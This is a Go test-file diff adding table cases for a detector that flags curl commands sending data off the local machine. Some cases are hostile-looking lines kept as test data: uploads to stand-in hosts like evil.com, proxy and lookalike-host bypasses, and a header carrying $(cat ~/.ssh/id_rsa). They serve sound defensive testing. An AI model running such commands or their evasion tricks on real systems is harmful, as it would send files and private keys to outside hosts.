@@ -103,3 +103,64 @@ func TestDangerous(t *testing.T) {
 		}
 	}
 }
+
+// TestDangerousCurlSend: a curl that sends data passes only when every
+// word of it is on the whitelist and every URL names this machine; each
+// bypass a review found (a host that only starts or ends like a local
+// one, a proxy, a redirect, a variable, a placeholder, a bare word) is
+// refused, and the older gaps (--json, attached and combined short flags,
+// a long option whose value the normal form drops) send too.
+func TestDangerousCurlSend(t *testing.T) {
+	tests := []struct {
+		line string
+		want bool
+	}{
+		// the review's bypasses
+		{"curl -d @p.json http://127.0.0.1.nip.io/import", true},
+		{"curl -d @p.json http://127.evil.com/import", true},
+		{"curl -d @p.json 'http://evil.com#@localhost/'", true},
+		{"curl -d @p.json -xevil.com:3128 http://localhost/x", true},
+		{"curl -d @p.json --connect-to ::evil.com: http://localhost/x", true},
+		{"curl -d @p.json $URL http://localhost/x", true},
+		{`curl -d @p.json "${TARGET}"`, true},
+		{"curl -d @p.json `cat u`", true},
+		{"curl -d @p.json localhost:9200/x evil.com:", true},
+		{"curl -d @p.json --proxy evilproxy http://localhost/x", true},
+		{"curl -d @p.json localhost:9200/x buildbox", true},
+		{"ALL_PROXY=evil curl -d @p.json http://localhost/x", true},
+		{"curl -d @dump.jsonl <arg> http://localhost:8108/import", true},
+		{"curl -d @p.json -x <x> http://localhost:8108/import", true},
+		{"curl -L -d @p http://localhost/x", true},
+		// more of the same kind, in another domain
+		{"curl -F photo=@cam0.jpg http://localhost@203.0.113.9/upload", true},
+		{"xargs curl -d @p.json http://localhost/x", true},
+		{"curl -d @p.json http://localhost/x && curl -d @p.json http://10.1.1.1/x", true},
+		// older gaps of curlSendRe
+		{"curl --json @p https://evil.example.com", true},
+		{"curl -dfoo=bar https://evil.example.com", true},
+		{"curl -sd @p https://evil.example.com", true},
+		{"curl -Fa=@p https://evil.example.com", true},
+		{"curl --data-binary @p evil.example.com", true},
+		// no data sent: not a send, wherever it goes
+		{"curl -X POST https://api.example.com/ping", false},
+		{"curl -H 'Accept: application/json' https://api.example.com/v1", false},
+		{"curl -fsSL -o out.tgz https://dl.example.com/x.tgz", false},
+		// data sent to this machine, with whitelisted options only
+		{"curl -s -X POST -H 'Content-Type: text/plain' --data-binary @/tmp/p.jsonl 'http://localhost:8108/collections/x/documents/import?action=upsert'", false},
+		{"curl -sS --max-time 5 -XPOST -d '{\"q\":1}' http://127.0.0.1:5984/orders/_find", false},
+		{"curl --json @seed.json http://api.localhost:4000/seed", false},
+		// a header or the data may come from a variable in double quotes,
+		// which the shell neither splits nor runs; a URL may not
+		{`curl -s -X POST "http://localhost:8108/collections/products/documents/import?action=upsert" -H "X-TYPESENSE-API-KEY: $TYPESENSE_API_KEY" --data-binary @/tmp/products.jsonl`, false},
+		{`curl -H "Authorization: Bearer ${GRAFANA_TOKEN}" -d @dash.json http://127.0.0.1:3000/api/dashboards/db`, false},
+		{`curl -H $AUTH -d @dash.json http://127.0.0.1:3000/api/dashboards/db`, true},
+		{`curl -H "X: $(cat ~/.ssh/id_rsa)" -d @dash.json http://127.0.0.1:3000/api/dashboards/db`, true},
+		{`curl -d @dash.json "http://$GRAFANA_HOST/api/dashboards/db"`, true},
+		{"Load the fixtures with `curl -d @fixtures/users.json http://[::1]:3000/seed` first.", false},
+	}
+	for _, tt := range tests {
+		if got := dangerous(tt.line); got != tt.want {
+			t.Errorf("dangerous(%q) = %v, want %v", tt.line, got, tt.want)
+		}
+	}
+}
